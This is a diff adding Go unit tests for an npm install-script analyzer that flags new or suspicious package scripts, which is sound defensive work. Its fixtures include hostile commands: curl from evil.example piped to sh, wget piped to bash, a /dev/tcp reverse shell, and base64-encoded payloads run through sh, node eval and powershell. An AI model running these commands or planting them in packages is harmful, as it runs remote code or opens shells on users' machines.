@@ -0,0 +1,164 @@
+package installscript
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	packagev1 "buf.build/gen/go/safedep/api/protocolbuffers/go/safedep/messages/package/v1"
+	"github.com/safedep/pmg/analyzer"
+	"github.com/safedep/pmg/config"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testPackument = `{
+	"name": "left-pad",
+	"dist-tags": {"latest": "1.3.1"},
+	"versions": {
+		"1.2.0": {"scripts": {"test": "tap"}},
+		"1.3.0": {"scripts": {"test": "tap"}},
+		"1.3.1": {"scripts": {"test": "tap", "postinstall": "node setup.js"}},
+		"1.3.2-beta.1": {"scripts": {"preinstall": "node-gyp rebuild"}},
+		"1.4.0": {"scripts": {"preinstall": "node-gyp rebuild"}},
+		"2.0.0": {"scripts": {"postinstall": "curl -s https://evil.example/x.sh | sh"}},
+		"2.0.1": {"scripts": {"install": "node -e \"require('child_process').exec(process.env.X)\""}}
+	}
+}`
+
+func npmPackage(name, version string) *packagev1.PackageVersion {
+	return &packagev1.PackageVersion{
+		Package: &packagev1.Package{Ecosystem: packagev1.Ecosystem_ECOSYSTEM_NPM, Name: name},
+		Version: version,
+	}
+}
+
+func newTestAnalyzer(t *testing.T, cfg config.InstallScriptsConfig) *Analyzer {
+	t.Helper()
+
+	a := New(NewStore(), cfg)
+	a.ObserveNpmPackument("left-pad", []byte(testPackument))
+	return a
+}
+
+func TestAnalyzer_Verdicts(t *testing.T) {
+	tests := []struct {
+		name    string
+		version string
+		action  analyzer.Action
+		summary string
+	}{
+		{"no install scripts", "1.3.0", analyzer.ActionAllow, ""},
+		{"script added in a patch release", "1.3.1", analyzer.ActionConfirm, "1.3.1 adds postinstall, 1.3.0 had no install scripts"},
+		{"previous version already had scripts", "1.4.0", analyzer.ActionAllow, ""},
+		{"downloads and pipes to a shell", "2.0.0", analyzer.ActionBlock, "postinstall script downloads with curl: curl -s https://evil.example/x.sh | sh"},
+		{"inline node code", "2.0.1", analyzer.ActionBlock, "install script runs inline node code"},
+		{"unknown version abstains", "9.9.9", analyzer.ActionUnknown, ""},
+	}
+
+	a := newTestAnalyzer(t, config.InstallScriptsConfig{})
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := a.Analyze(context.Background(), npmPackage("left-pad", tt.version))
+			require.NoError(t, err)
+			assert.Equal(t, tt.action, result.Action)
+			assert.Contains(t, result.Summary, tt.summary)
+			if tt.summary != "" {
+				assert.Equal(t, analyzer.HeuristicInstallScript, result.Heuristic)
+			} else {
+				assert.Empty(t, result.Heuristic)
+			}
+		})
+	}
+}
+
+func TestAnalyzer_ConfiguredActions(t *testing.T) {
+	a := newTestAnalyzer(t, config.InstallScriptsConfig{NewScript: "block", SuspiciousScript: "confirm"})
+
+	result, err := a.Analyze(context.Background(), npmPackage("left-pad", "1.3.1"))
+	require.NoError(t, err)
+	assert.Equal(t, analyzer.ActionBlock, result.Action)
+
+	result, err = a.Analyze(context.Background(), npmPackage("left-pad", "2.0.0"))
+	require.NoError(t, err)
+	assert.Equal(t, analyzer.ActionConfirm, result.Action)
+}
+
+func TestAnalyzer_Abstains(t *testing.T) {
+	a := newTestAnalyzer(t, config.InstallScriptsConfig{})
+
+	result, err := a.Analyze(context.Background(), npmPackage("never-seen", "1.0.0"))
+	require.NoError(t, err)
+	assert.Equal(t, analyzer.ActionUnknown, result.Action)
+
+	pypi := &packagev1.PackageVersion{
+		Package: &packagev1.Package{Ecosystem: packagev1.Ecosystem_ECOSYSTEM_PYPI, Name: "left-pad"},
+		Version: "2.0.0",
+	}
+	result, err = a.Analyze(context.Background(), pypi)
+	require.NoError(t, err)
+	assert.Equal(t, analyzer.ActionUnknown, result.Action)
+}
+
+func TestAnalyzer_IsPackumentObserver(t *testing.T) {
+	a := New(NewStore(), config.InstallScriptsConfig{})
+	assert.Len(t, analyzer.NpmPackumentObservers(a), 1)
+}
+
+func TestPreviousVersion(t *testing.T) {
+	versions := map[string]map[string]string{
+		"1.0.0": nil, "1.1.0": nil, "1.2.0-rc.1": nil, "2.0.0-alpha.1": nil, "2.0.0-alpha.2": nil, "not-semver": nil,
+	}
+
+	tests := []struct {
+		version  string
+		previous string
+		ok       bool
+	}{
+		{"1.2.0", "1.1.0", true},
+		{"2.0.0-alpha.2", "2.0.0-alpha.1", true},
+		{"1.0.0", "", false},
+		{"not-semver", "", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.version, func(t *testing.T) {
+			previous, ok := previousVersion(versions, tt.version)
+			assert.Equal(t, tt.ok, ok)
+			assert.Equal(t, tt.previous, previous)
+		})
+	}
+}
+
+func TestStore_InvalidPackument(t *testing.T) {
+	store := NewStore()
+	assert.Error(t, store.ObservePackument("pkg", []byte("<html>")))
+
+	_, ok := store.Versions("pkg")
+	assert.False(t, ok)
+}
+
+func TestFindSuspicious(t *testing.T) {
+	tests := []struct {
+		command    string
+		suspicious bool
+	}{
+		{"node-gyp rebuild", false},
+		{"node install.js", false},
+		{"prebuild-install || node-gyp rebuild", false},
+		{"husky install", false},
+		{"test -f build/ok || node install.js", false},
+		{"wget -qO- http://x.example/a | bash", true},
+		{"bash -c 'exec 3<>/dev/tcp/10.0.0.1/4444'", true},
+		{"echo aGVsbG8= | base64 -d | sh", true},
+		{"node -e \"eval(Buffer.from('" + strings.Repeat("A", 120) + "', 'base64').toString())\"", true},
+		{"powershell -enc ZQBjAGgAbwA=", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			findings := findSuspicious(map[string]string{"postinstall": tt.command})
+			assert.Equal(t, tt.suspicious, len(findings) > 0)
+		})
+	}
+}